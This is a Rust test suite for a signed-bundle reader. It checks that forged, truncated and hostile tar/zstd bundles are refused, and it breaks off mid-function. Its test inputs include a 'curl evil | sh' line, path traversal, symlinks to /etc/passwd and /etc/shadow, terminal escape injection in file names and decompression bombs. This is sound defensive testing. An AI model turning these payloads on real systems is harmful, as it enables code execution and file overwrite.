//! Every bad input gets a clear error: the right kind (so the exit code tells a forged
//! bundle from a scratched disk), a message that names the entry or file, and a
//! `hint:`. Bombs fail fast, without reading or allocating what they promise.

mod forge;

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::fs;
use std::sync::Arc;
use std::time::{Duration, Instant};

use airlock_format::error::{Error, ErrorKind, Result};
use airlock_format::manifest::{MANIFEST_PATH, SIGNATURE_PATH};
use airlock_format::minisign::{PublicKey, SecretKey};
use airlock_format::parts::{part_path, BundleFiles};
use airlock_format::read::{read_bundle, read_entry, read_manifest, ReadOutcome, VerifyOnly};
use airlock_format::report::Silent;
use forge::{flip_byte, flipped, header, noise, save, save_split, Forge, Tar, CHART, GIB, PROFILE, SCRIPT};
use tar::EntryType;

// ---------------------------------------------------------------------------------
// Harness

/// Records the largest single allocation made on each thread, so a bomb test can
/// show the reader never allocated what the bomb asked for.
struct LargestAllocation;

thread_local! {
    static LARGEST: Cell<usize> = const { Cell::new(0) };
}

fn note(size: usize) {
    let _ = LARGEST.try_with(|c| c.set(c.get().max(size)));
}

unsafe impl GlobalAlloc for LargestAllocation {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        note(layout.size());
        System.alloc(layout)
    }
    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        note(layout.size());
        System.alloc_zeroed(layout)
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        note(new_size);
        System.realloc(ptr, layout, new_size)
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

#[global_allocator]
static ALLOCATOR: LargestAllocation = LargestAllocation;

/// A bomb is read within this time and this largest allocation, or the test fails.
/// Reading what the bombs below promise would take hours and terabytes.
const FAST: Duration = Duration::from_secs(5);
const SMALL: usize = 4 << 20;

fn read_files(files: &BundleFiles, key: PublicKey) -> Result<ReadOutcome> {
    read_bundle(files, &[key], &mut VerifyOnly, &Silent)
}

/// Saves `bytes` as a bundle and verifies it with the forge's key.
fn read(f: &Forge, bytes: &[u8]) -> Result<ReadOutcome> {
    let d = tempfile::tempdir().unwrap();
    read_files(&save(d.path(), "b.airlock", bytes), f.public_key())
}

/// [`read`] of a bomb: refused as corrupt, naming `names`, because of `cause` (not
/// because its data ran out), fast and with small allocations only.
#[track_caller]
fn read_bomb(f: &Forge, bytes: &[u8], names: &str, cause: &str) -> Error {
    let d = tempfile::tempdir().unwrap();
    let files = save(d.path(), "b.airlock", bytes);
    LARGEST.with(|c| c.set(0));
    let start = Instant::now();
    let result = read_files(&files, f.public_key());
    let (took, largest) = (start.elapsed(), LARGEST.with(|c| c.get()));
    let e = refused(result, ErrorKind::Corrupt, names);
    assert!(e.cause.contains(cause), "refused for another reason: {e}");
    assert!(took < FAST, "reading the bomb took {took:?}: {e}");
    assert!(largest < SMALL, "reading the bomb allocated {largest} bytes at once: {e}");
    e
}

/// Asserts a refusal of `kind` whose message names `names` and carries a hint.
#[track_caller]
fn refused<T: std::fmt::Debug>(r: Result<T>, kind: ErrorKind, names: &str) -> Error {
    let e = r.expect_err("bad bundle accepted");
    let text = e.to_string();
    if std::env::var_os("AIRLOCK_SHOW_ERRORS").is_some() {
        eprintln!("[{kind:?}] {text}");
    }
    assert_eq!(e.kind, kind, "wrong kind for: {text}");
    assert!(text.contains(names), "message does not name `{names}`: {text}");
    assert!(text.contains("\n  hint: "), "no hint: {text}");
    e
}

// ---------------------------------------------------------------------------------
// The genuine article

#[test]
fn genuine_bundle_verifies_from_every_forge_backend() {
    let f = Forge::standard();
    let good = f.good();
    let frames = good.windows(4).filter(|w| *w == [0x28, 0xB5, 0x2F, 0xFD]).count();
    assert!(frames >= 8, "the forged bundle spans several small frames ({frames})");
    read(&f, &good).unwrap();
    // Bundles of one large frame, as written before frames were cut, still read.
    let mut t = Tar::one_frame();
    f.head(&mut t);
    f.entries(&mut t, ..);
    t.end();
    assert!(read(&f, &t.finish()).unwrap().is_ok());
    let mut t = f.frame();
    f.entries(&mut t, ..);
    t.end();
    let outcome = read(&f, &t.finish()).unwrap();
    assert!(outcome.is_ok());
    assert_eq!(outcome.manifest, f.manifest);
    let d = tempfile::tempdir().unwrap();
    let files = f.write(d.path(), "real.airlock", Some(64 << 10));
    assert!(files.parts.len() >= 3);
    assert!(read_files(&files, f.public_key()).unwrap().is_ok());
}

// ---------------------------------------------------------------------------------
// Signature and manifest

#[test]
fn flipped_manifest_byte_is_a_signature_error() {
    let f = Forge::standard();
    let manifest = f.manifest_bytes();
    for at in [0, manifest.len() / 2, manifest.len() - 2] {
        let mut t = Tar::zstd();
        t.file(MANIFEST_PATH, 0o644, &flipped(&manifest, at));
        t.file(SIGNATURE_PATH, 0o644, f.signature().as_bytes());
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Signature, MANIFEST_PATH);
        assert!(e.cause.contains("does not match the content"), "{e}");
    }
}

#[test]
fn flipped_signature_byte_is_a_signature_error() {
    let f = Forge::standard();
    let sig = f.signature();
    let lines: Vec<&str> = sig.lines().collect();
    let line_start = |n: usize| lines[..n].iter().map(|l| l.len() + 1).sum::<usize>();
    // The signature proper, the key id, the trusted comment, the global signature.
    let cases = [
        (line_start(1) + 40, "does not match the content"),
        (line_start(1) + 4, "not from a trusted key"),
        (line_start(2) + 20, "trusted comment was altered"),
        (line_start(3) + 10, "global signature"),
    ];
    for (at, cause) in cases {
        let mut bad = sig.clone().into_bytes();
        // Swap for another base64 letter, so the damage is not just a parse error.
        bad[at] = if bad[at] == b'A' { b'B' } else { b'A' };
        let mut t = Tar::zstd();
        t.file(MANIFEST_PATH, 0o644, &f.manifest_bytes());
        t.file(SIGNATURE_PATH, 0o644, &bad);
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Signature, MANIFEST_PATH);
        assert!(e.cause.contains(cause), "byte {at}: {e}");
    }
}

#[test]
fn malformed_signature_entry_is_a_signature_error() {
    let f = Forge::standard();
    let sig = f.signature();
    // A character outside base64 in the signature line. (Replacing every `A` was the
    // first form: a fresh key's signature has no `A` about one time in twenty, and the
    // case then passed a good signature.)
    let mut lines: Vec<String> = sig.lines().map(String::from).collect();
    lines[1].replace_range(0..1, "*");
    let not_base64 = lines.join("\n") + "\n";
    let cases: [(Vec<u8>, &str); 3] = [
        (sig.replacen("trusted comment", "trusted c0mment", 1).into_bytes(), SIGNATURE_PATH),
        (not_base64.into_bytes(), SIGNATURE_PATH),
        (vec![0xff, 0xfe, 0x00, 0x80], SIGNATURE_PATH),
    ];
    for (bad, names) in cases {
        let mut t = Tar::zstd();
        t.file(MANIFEST_PATH, 0o644, &f.manifest_bytes());
        t.file(SIGNATURE_PATH, 0o644, &bad);
        t.end();
        refused(read(&f, &t.finish()), ErrorKind::Signature, names);
    }
}

#[test]
fn bundle_signed_by_an_untrusted_key_is_refused() {
    let f = Forge::standard();
    let other = SecretKey::generate().unwrap().public_key();
    let d = tempfile::tempdir().unwrap();
    let files = save(d.path(), "b.airlock", &f.good());
    let e = refused(read_files(&files, other), ErrorKind::Signature, MANIFEST_PATH);
    assert!(e.cause.contains(&f.public_key().key_id_hex()) && e.cause.contains(&other.key_id_hex()), "{e}");
    refused(read_manifest(&files, Some(&[other])), ErrorKind::Signature, MANIFEST_PATH);
    // No trusted key at all fails closed too.
    refused(read_bundle(&files, &[], &mut VerifyOnly, &Silent), ErrorKind::Signature, MANIFEST_PATH);
}

#[test]
fn unsigned_bundle_is_refused() {
    let f = Forge::standard();
    // Entries follow the manifest directly.
    let mut t = Tar::zstd();
    t.file(MANIFEST_PATH, 0o644, &f.manifest_bytes());
    f.entries(&mut t, ..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Signature, "b.airlock");
    assert!(e.cause.contains("not signed"), "{e}");
    // Nothing follows the manifest at all.
    let mut t = Tar::zstd();
    t.file(MANIFEST_PATH, 0o644, &f.manifest_bytes());
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Signature, "b.airlock");
    assert!(e.cause.contains("not signed"), "{e}");
}

#[test]
fn signature_of_another_manifest_is_refused() {
    let key = Arc::new(SecretKey::generate().unwrap());
    let a = Forge::with_key(key.clone(), &[("files/base/a.txt", b"bundle a")]);
    let b = Forge::standard_with_key(key);
    let mut t = Tar::zstd();
    t.file(MANIFEST_PATH, 0o644, &b.manifest_bytes());
    t.file(SIGNATURE_PATH, 0o644, a.signature().as_bytes());
    b.entries(&mut t, ..);
    t.end();
    let e = refused(read(&b, &t.finish()), ErrorKind::Signature, MANIFEST_PATH);
    assert!(e.cause.contains("does not match the content"), "{e}");
}

#[test]
fn read_manifest_checks_the_signature_only_when_keys_are_given() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let mut t = Tar::zstd();
    let mut m = f.manifest_bytes();
    let at = m.windows(7).position(|w| w == b"forged\"").unwrap();
    m[at] = b'F'; // still valid JSON: only the signature can tell
    t.file(MANIFEST_PATH, 0o644, &m);
    t.file(SIGNATURE_PATH, 0o644, f.signature().as_bytes());
    t.end();
    let files = save(d.path(), "b.airlock", &t.finish());
    refused(read_manifest(&files, Some(&[f.public_key()])), ErrorKind::Signature, MANIFEST_PATH);
    let (manifest, _, signer) = read_manifest(&files, None).unwrap();
    assert_eq!((manifest.name.as_str(), signer), ("Forged", None));
}

#[test]
fn mangled_manifest_is_corrupt_even_without_keys() {
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let mut t = Tar::zstd();
    let m = f.manifest_bytes();
    t.file(MANIFEST_PATH, 0o644, &m[..m.len() / 2]);
    t.file(SIGNATURE_PATH, 0o644, f.sign(&m[..m.len() / 2]).as_bytes());
    t.end();
    let files = save(d.path(), "b.airlock", &t.finish());
    refused(read_manifest(&files, None), ErrorKind::Corrupt, MANIFEST_PATH);
    // Signed garbage is still garbage.
    refused(read_files(&files, f.public_key()), ErrorKind::Corrupt, MANIFEST_PATH);
}

#[test]
fn signed_manifest_listing_an_unsafe_path_is_refused_as_unsafe() {
    let mut f = Forge::new(&[("files/base/a.txt", b"a")]);
    f.manifest.entries[0].path = "../escape".into();
    f.manifest.files[0].path = "../escape".into();
    let mut t = f.tar();
    t.entry(b"../escape", EntryType::Regular, 0o644, b"a");
    t.end();
    refused(read(&f, &t.finish()), ErrorKind::Unsafe, "../escape");
}

#[test]
fn manifest_entry_of_absurd_size_is_refused_before_reading() {
    let f = Forge::standard();
    let mut t = Tar::frame();
    t.header(&header(MANIFEST_PATH.as_bytes(), EntryType::Regular, 0o644, 1 << 40));
    t.zeros(256 * GIB);
    read_bomb(&f, &t.finish(), MANIFEST_PATH, "more than the 33554432 allowed");
}

// ---------------------------------------------------------------------------------
// Not a bundle at all

#[test]
fn empty_file_is_not_a_bundle() {
    let f = Forge::standard();
    let e = refused(read(&f, b""), ErrorKind::Corrupt, "b.airlock");
    assert!(e.to_string().contains("not an Airlock bundle"), "{e}");
    let d = tempfile::tempdir().unwrap();
    let files = save(d.path(), "b.airlock", b"");
    refused(read_manifest(&files, None), ErrorKind::Corrupt, "b.airlock");
}

#[test]
fn random_bytes_are_not_a_bundle() {
    let f = Forge::standard();
    refused(read(&f, &noise(9, 100_000)), ErrorKind::Corrupt, "b.airlock");
    refused(read(&f, b"x"), ErrorKind::Corrupt, "b.airlock");
}

#[test]
fn uncompressed_tar_or_foreign_archive_is_not_a_bundle() {
    let f = Forge::standard();
    let mut plain = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(5);
    h.set_cksum();
    plain.append_data(&mut h, "hello.txt", &b"hello"[..]).unwrap();
    let plain = plain.into_inner().unwrap();
    refused(read(&f, &plain), ErrorKind::Corrupt, "b.airlock");
    // Compressed, but the first entry is not the manifest.
    let mut t = Tar::zstd();
    t.data(&plain);
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, "b.airlock");
    assert!(e.to_string().contains("not an Airlock bundle"), "{e}");
}

// ---------------------------------------------------------------------------------
// Content that does not match

#[test]
fn flipped_blob_and_chart_bytes_are_each_reported_and_reading_continues() {
    let f = Forge::standard();
    let layer = f.layer();
    let mut t = f.tar();
    for p in f.paths() {
        if p == layer || p == CHART {
            f.entry_with(&mut t, &p, &flipped(&f.contents[&p], 1000));
        } else {
            f.entry(&mut t, &p);
        }
    }
    t.end();
    let outcome = read(&f, &t.finish()).unwrap();
    assert!(!outcome.is_ok());
    let bad: Vec<&str> = outcome.mismatches.iter().map(|m| m.path.as_str()).collect();
    assert_eq!(bad, vec![CHART, layer.as_str()]);
    let m = &outcome.mismatches[1];
    assert_eq!(m.expected, f.manifest.entry(&layer).unwrap().sha256);
    assert_ne!(m.actual, m.expected);
}

#[test]
fn flipped_byte_in_a_small_file_names_it() {
    let f = Forge::standard();
    let outcome = read(&f, &f.with_content(PROFILE, &flipped(&f.contents[PROFILE], 0))).unwrap();
    assert_eq!(outcome.mismatches.len(), 1);
    assert_eq!(outcome.mismatches[0].path, PROFILE);
}

#[test]
fn entry_longer_or_shorter_than_the_manifest_says_is_refused() {
    let f = Forge::standard();
    let mut longer = f.contents[SCRIPT].clone();
    longer.extend_from_slice(b"curl evil | sh\n");
    let e = refused(read(&f, &f.with_content(SCRIPT, &longer)), ErrorKind::Corrupt, SCRIPT);
    assert!(e.cause.contains("the signed manifest says"), "{e}");
    let shorter = &f.contents[SCRIPT][..4];
    refused(read(&f, &f.with_content(SCRIPT, shorter)), ErrorKind::Corrupt, SCRIPT);
}

#[test]
fn huge_entry_in_place_of_a_listed_one_is_refused_before_reading() {
    let f = Forge::standard();
    let mut t = f.frame();
    f.entries(&mut t, ..f.index(SCRIPT));
    t.header(&header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, 1 << 40));
    t.zeros(256 * GIB);
    read_bomb(&f, &t.finish(), SCRIPT, "the signed manifest says 23");
}

#[test]
fn entry_not_in_the_manifest_is_refused() {
    let f = Forge::standard();
    for at in [0, 2, f.paths().len()] {
        let mut t = f.tar();
        f.entries(&mut t, ..at);
        t.file("files/base/extra.sh", 0o644, b"#!/bin/sh\n");
        f.entries(&mut t, at..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, "files/base/extra.sh");
        assert!(e.cause.contains("not in the signed manifest"), "{e}");
    }
}

#[test]
fn duplicate_entry_is_refused() {
    let f = Forge::standard();
    let mut t = f.tar();
    f.entries(&mut t, ..=f.index(CHART));
    f.entry(&mut t, CHART);
    f.entries(&mut t, f.index(CHART) + 1..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, CHART);
    assert!(e.cause.contains("twice"), "{e}");
    // The whole body twice.
    let mut t = f.tar();
    f.entries(&mut t, ..);
    f.entries(&mut t, ..);
    t.end();
    refused(read(&f, &t.finish()), ErrorKind::Corrupt, CHART);
}

#[test]
fn reordered_entries_are_refused() {
    let f = Forge::standard();
    let paths = f.paths();
    let mut t = f.tar();
    f.entry(&mut t, &paths[1]);
    f.entry(&mut t, &paths[0]);
    f.entries(&mut t, 2..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, &paths[0]);
    assert!(e.cause.contains("out of order") && e.cause.contains(&paths[1]), "{e}");
}

#[test]
fn missing_entry_is_named() {
    let f = Forge::standard();
    let i = f.index(SCRIPT);
    let mut t = f.tar();
    f.entries(&mut t, ..i);
    f.entries(&mut t, i + 1..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
    assert!(e.cause.contains("missing"), "{e}");
    // The last entries missing: the archive ends early.
    let mut t = f.tar();
    f.entries(&mut t, ..i);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
    assert!(e.cause.contains("3 more"), "{e}");
}

#[test]
fn truncated_bundle_is_corrupt_and_says_so() {
    let f = Forge::standard();
    let good = f.good();
    for cut in [good.len() - 1, good.len() - 5, good.len() / 2, 200, 20, 3] {
        let e = refused(read(&f, &good[..cut]), ErrorKind::Corrupt, "");
        assert!(e.to_string().contains("truncated"), "cut at {cut}: {e}");
    }
    // The tar stream stops in the middle of an entry, the zstd frame is whole.
    let mut t = f.tar();
    f.entries(&mut t, ..f.index(SCRIPT));
    t.header(&header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, f.contents[SCRIPT].len() as u64));
    t.raw(&f.contents[SCRIPT][..5]);
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
    assert!(e.to_string().contains("truncated"), "{e}");
}

#[test]
fn bundle_cut_between_two_frames_is_truncated() {
    // Each frame is whole, so zstd alone sees nothing wrong: the tar stream must.
    let f = Forge::standard();
    let good = f.good();
    let starts: Vec<usize> = (1..good.len() - 4).filter(|&i| good[i..i + 4] == [0x28, 0xB5, 0x2F, 0xFD]).collect();
    assert!(starts.len() >= 7, "{} frames", starts.len() + 1);
    for cut in starts.into_iter().step_by(2) {
        let e = refused(read(&f, &good[..cut]), ErrorKind::Corrupt, "");
        assert!(e.to_string().contains("truncated"), "cut at frame start {cut}: {e}");
    }
}

#[test]
fn read_entry_skips_the_entries_before_it_and_stops_at_the_limit_when_one_is_longer() {
    // `read_entry` skips the entries before the one it wants without reading them
    // (the tar parser seeks past them); only the manifest's sizes bound that skip.
    let f = Forge::standard();
    let d = tempfile::tempdir().unwrap();
    let files = save(d.path(), "b.airlock", &f.good());
    let (_, bytes) = read_entry(&files, Some(&[f.public_key()]), PROFILE).unwrap().expect("listed");
    assert_eq!(bytes, f.contents[PROFILE]);
    assert!(f.index(CHART) < f.index(PROFILE));
    let d = tempfile::tempdir().unwrap();
    let files = save(d.path(), "b.airlock", &f.with_content(CHART, &noise(9, 400_000)));
    let e = refused(read_entry(&files, Some(&[f.public_key()]), PROFILE), ErrorKind::Corrupt, "");
    assert!(e.cause.contains("more data than its manifest accounts for"), "{e}");
}

#[test]
fn data_after_the_end_of_the_archive_is_refused() {
    let f = Forge::standard();
    let mut t = f.tar();
    f.entries(&mut t, ..);
    t.end();
    t.file("files/base/smuggled", 0o644, b"not signed");
    refused(read(&f, &t.finish()), ErrorKind::Corrupt, "b.airlock");
}

#[test]
fn directory_and_other_entry_types_are_refused() {
    let f = Forge::standard();
    for (path, ty) in [("files/base/", EntryType::Directory), ("files/base/x", EntryType::GNUSparse)] {
        let mut t = f.tar();
        t.entry(path.as_bytes(), ty, 0o755, b"");
        f.entries(&mut t, ..);
        t.end();
        refused(read(&f, &t.finish()), ErrorKind::Corrupt, path);
    }
}

#[test]
fn owner_other_than_root_is_refused() {
    let f = Forge::standard();
    for (uid, gid) in [(1000, 0), (0, 1000)] {
        let mut h = header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, f.contents[SCRIPT].len() as u64);
        h.set_uid(uid);
        h.set_gid(gid);
        h.set_cksum();
        let mut t = f.tar();
        f.entries(&mut t, ..f.index(SCRIPT));
        t.header(&h).data(&f.contents[SCRIPT]);
        f.entries(&mut t, f.index(SCRIPT) + 1..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
        assert!(e.cause.contains(&format!("owner {uid}:{gid}")), "{e}");
    }
}

#[test]
fn mode_other_than_the_manifest_says_is_refused() {
    let f = Forge::standard();
    let mut t = f.tar();
    f.entries(&mut t, ..f.index(SCRIPT));
    t.file(SCRIPT, 0o644, &f.contents[SCRIPT]);
    f.entries(&mut t, f.index(SCRIPT) + 1..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
    assert!(e.cause.contains("mode 644"), "{e}");
}

// ---------------------------------------------------------------------------------
// Entries that would escape or subvert the target

#[test]
fn dotdot_paths_are_refused_as_unsafe() {
    let f = Forge::standard();
    let deep = format!("files/{}../../../../escape", "d/".repeat(60));
    for path in ["../escape", "files/../../escape", "files/base/..", deep.as_str()] {
        let mut t = f.tar();
        t.entry(path.as_bytes(), EntryType::Regular, 0o644, b"pwned");
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
        assert!(e.cause.contains("`..`"), "{e}");
    }
    // `..` hidden in the ustar prefix field.
    let mut h = tar::Header::new_ustar();
    forge::set_name(&mut h, b"escape");
    h.as_ustar_mut().unwrap().prefix[..2].copy_from_slice(b"..");
    h.set_size(5);
    h.set_mode(0o644);
    h.set_entry_type(EntryType::Regular);
    h.set_cksum();
    let mut t = f.tar();
    t.header(&h).data(b"pwned");
    t.end();
    refused(read(&f, &t.finish()), ErrorKind::Unsafe, "../escape");
}

#[test]
fn absolute_paths_are_refused_as_unsafe() {
    let f = Forge::standard();
    for path in ["/tmp/airlock-escape", "/etc/cron.d/x", "//x"] {
        let mut t = f.tar();
        t.entry(path.as_bytes(), EntryType::Regular, 0o644, b"pwned");
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
        assert!(e.cause.contains("absolute"), "{e}");
    }
}

#[test]
fn odd_path_characters_are_refused_as_unsafe() {
    let f = Forge::standard();
    for path in ["files/a\\..\\..\\x", "files/\u{2215}etc", "files/a b"] {
        let mut t = f.tar();
        t.entry(path.as_bytes(), EntryType::Regular, 0o644, b"x");
        f.entries(&mut t, ..);
        t.end();
        refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
    }
}

#[test]
fn control_characters_in_paths_and_link_targets_never_reach_the_terminal() {
    let f = Forge::standard();
    let evil = "files/a\nb\u{1b}]0;pwned\u{7}\u{1b}[2J";
    let mut plain = f.tar();
    plain.entry(evil.as_bytes(), EntryType::Regular, 0o644, b"x");
    let mut listed_name = f.tar();
    listed_name.entry(b"files/k3s/install.sh\x1b[2J", EntryType::Regular, 0o755, b"x");
    let mut link = f.tar();
    link.link("files/base/l", EntryType::Symlink, "/etc/\u{1b}[2Jpasswd");
    for (mut t, kind, names) in [
        (plain, ErrorKind::Unsafe, "files/a\\nb\\u{1b}]0;pwned"),
        (listed_name, ErrorKind::Unsafe, "install.sh\\u{1b}[2J"),
        (link, ErrorKind::Unsafe, "/etc/\\u{1b}[2Jpasswd"),
    ] {
        t.end();
        let e = refused(read(&f, &t.finish()), kind, names);
        let text = e.to_string();
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && text.lines().count() == 2, "{text:?}");
    }
}

#[test]
fn signed_manifest_with_absurd_sizes_is_an_error_not_a_panic() {
    let mut f = Forge::new(&[("files/base/a", b"a"), ("files/base/b", b"b")]);
    for e in &mut f.manifest.entries {
        e.size = u64::MAX - 100;
    }
    let mut t = f.tar();
    f.entries(&mut t, ..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, MANIFEST_PATH);
    assert!(e.cause.contains("2^64"), "{e}");
}

#[test]
fn symlink_entry_is_refused_as_unsafe() {
    let f = Forge::standard();
    // Escaping, pointing inside the bundle, and named like a listed entry.
    for (path, target) in [
        ("files/base/passwd", "../../../../etc/passwd"),
        ("files/base/abs", "/etc/shadow"),
        ("files/base/chart", "../../charts"),
        (SCRIPT, "/bin/sh"),
    ] {
        let mut t = f.tar();
        t.link(path, EntryType::Symlink, target);
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
        assert!(e.cause.contains("symbolic link") && e.cause.contains(target), "{e}");
    }
}

#[test]
fn hardlink_entry_is_refused_as_unsafe() {
    let f = Forge::standard();
    for (path, target) in [("files/base/passwd", "/etc/passwd"), ("files/base/up", "../../x"), (SCRIPT, CHART)] {
        let mut t = f.tar();
        t.link(path, EntryType::Link, target);
        f.entries(&mut t, ..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
        assert!(e.cause.contains("hard link"), "{e}");
    }
}

#[test]
fn device_files_and_fifos_are_refused_as_unsafe() {
    let f = Forge::standard();
    for (ty, what) in [(EntryType::Char, "device"), (EntryType::Block, "device"), (EntryType::Fifo, "pipe")] {
        let mut t = f.tar();
        f.entries(&mut t, ..1);
        t.special("files/base/dev", ty);
        f.entries(&mut t, 1..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, "files/base/dev");
        assert!(e.cause.contains(what), "{e}");
    }
}

#[test]
fn setuid_setgid_and_sticky_bits_are_refused_as_unsafe() {
    let f = Forge::standard();
    for mode in [0o4755, 0o2755, 0o1755, 0o6755] {
        let mut t = f.tar();
        f.entries(&mut t, ..f.index(SCRIPT));
        t.file(SCRIPT, mode, &f.contents[SCRIPT]);
        f.entries(&mut t, f.index(SCRIPT) + 1..);
        t.end();
        let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, SCRIPT);
        assert!(e.cause.contains("setuid"), "{e}");
    }
}

// ---------------------------------------------------------------------------------
// Decompression bombs: fail fast, read and allocate little

#[test]
fn huge_entry_not_in_the_manifest_fails_fast() {
    let f = Forge::standard();
    let mut t = f.frame();
    t.header(&header(b"files/base/zeros", EntryType::Regular, 0o644, 1 << 40));
    t.zeros(256 * GIB);
    read_bomb(&f, &t.finish(), "files/base/zeros", "not in the signed manifest");
}

#[test]
fn huge_zero_padding_after_the_archive_fails_fast() {
    let f = Forge::standard();
    let mut t = f.frame();
    f.entries(&mut t, ..);
    t.end();
    t.zeros(256 * GIB);
    read_bomb(&f, &t.finish(), "b.airlock", "more than 1 MiB of padding");
}

#[test]
fn gigantic_long_name_record_fails_fast() {
    let f = Forge::standard();
    // After the head, and as the very first entry.
    let mut after_head = f.frame();
    after_head.header(&header(b"././@LongLink", EntryType::GNULongName, 0o644, 1 << 40));
    after_head.fill(b'a', 256 * GIB);
    let mut first = Tar::frame();
    first.header(&header(b"././@LongLink", EntryType::GNULongName, 0o644, 1 << 40));
    first.fill(b'a', 256 * GIB);
    read_bomb(&f, &after_head.finish(), "b.airlock", "long-name record of 1099511627776 bytes");
    read_bomb(&f, &first.finish(), "b.airlock", "the first entry is not the bundle manifest");
}

#[test]
fn huge_pax_or_long_link_record_fails_fast() {
    let f = Forge::standard();
    for ty in [EntryType::XHeader, EntryType::XGlobalHeader, EntryType::GNULongLink] {
        let mut t = f.frame();
        t.header(&header(b"files/base/x", ty, 0o644, 1 << 40));
        t.fill(b'a', 256 * GIB);
        read_bomb(&f, &t.finish(), "files/base/x", "unexpected tar entry type");
    }
}

#[test]
fn zstd_frame_demanding_a_huge_window_is_refused() {
    let f = Forge::standard();
    let mut t = Tar::frame_with_window_log(31);
    f.head(&mut t);
    f.entries(&mut t, ..);
    t.end();
    let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, "b.airlock");
    assert!(e.cause.contains("decoded"), "{e}");
}

#[test]
fn dangling_long_name_record_at_the_end_is_refused() {
    let f = Forge::standard();
    let mut t = f.tar();
    f.entries(&mut t, ..);
    t.long_name(&[b'x'; 4000]);
    t.end();
    refused(read(&f, &t.finish()), ErrorKind::Corrupt, "b.airlock");
}

// ---------------------------------------------------------------------------------
// Around the zstd stream

#[test]
fn trailing_garbage_after_the_zstd_stream_is_refused() {
    let f = Forge::standard();
    for garbage in [&b"x"[..], b"\0", b"\0\0\0\0\0\0\0\0", &noise(5, 5000)] {
        let mut bytes = f.good();
        bytes.extend_from_slice(garbage);
        let e = refused(read(&f, &bytes), ErrorKind::Corrupt, "b.airlock");
        assert!(!e.cause.contains("in the middle of"), "{e}");
    }
}

#[test]
fn trailing_zstd_frames_after_the_stream_are_refused() {
    let f = Forge::standard();
    let skippable = {
        let mut v = 0x184D_2A50u32.to_le_bytes().to_vec();
        v.extend_from_slice(&8u32.to_le_bytes());
        v.extend_from_slice(b"unsigned");
        v
    };
    let zeros = zstd::encode_all(&[0u8; 4096][..], 3).unwrap();
    let empty = zstd::encode_all(&b""[..], 3).unwrap();
    for frame in [skippable, zeros, empty] {
        let mut bytes = f.good();
        bytes.extend_from_slice(&frame);
        let e = refused(read(&f, &bytes), ErrorKind::Corrupt, "b.airlock");
        assert!(e.cause.contains("follow"), "{e}");
    }
}

// ---------------------------------------------------------------------------------
// Parts

fn split_bundle(f: &Forge, d: &std::path::Path) -> BundleFiles {
    let files = f.write(d, "b.airlock", Some(96 << 10));
    assert!(files.parts.len() >= 4, "{} parts", files.parts.len());
    files
}

#[test]
fn flipped_byte_in_a_compressed_part_is_corrupt() {
    let f = Forge::standard();
    for at in [10, 1000, 50_000, 95_000] {
        let d = tempfile::tempdir().unwrap();
        let files = split_bundle(&f, d.path());
        flip_byte(&files.parts[1], at);
        let e = match read_files(&files, f.public_key()) {
            Ok(o) => panic!("flip at {at} accepted: {:?}", o.mismatches),
            Err(e) => e,
        };
        assert_eq!(e.kind, ErrorKind::Corrupt, "{e}");
        assert!(e.to_string().contains("hint:"), "{e}");
    }
}

#[test]
fn flipped_byte_in_a_stored_blob_is_reported_as_that_blob() {
    let f = Forge::standard();
    let layer = f.layer();
    let d = tempfile::tempdir().unwrap();
    let files = f.write(d.path(), "b.airlock", None);
    let at = forge::find_in_file(&files.parts[0], &f.contents[&layer][5000..5064]).expect("layer stored verbatim");
    flip_byte(&files.parts[0], at + 10);
    // The content check names the blob; the frame checksum then fails the stream.
    let mut tracker = Tracker::default();
    let e = read_bundle(&files, &[f.public_key()], &mut tracker, &Silent).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Corrupt, "{e}");
    assert_eq!(tracker.bad, vec![layer.clone()]);
    assert_eq!(tracker.good.len(), f.paths().len() - 1, "{e}");
}

#[derive(Default)]
struct Tracker {
    good: Vec<String>,
    bad: Vec<String>,
}

impl airlock_format::read::EntrySink for Tracker {
    fn finish(&mut self, e: &airlock_format::manifest::Entry, verified: bool) -> Result<()> {
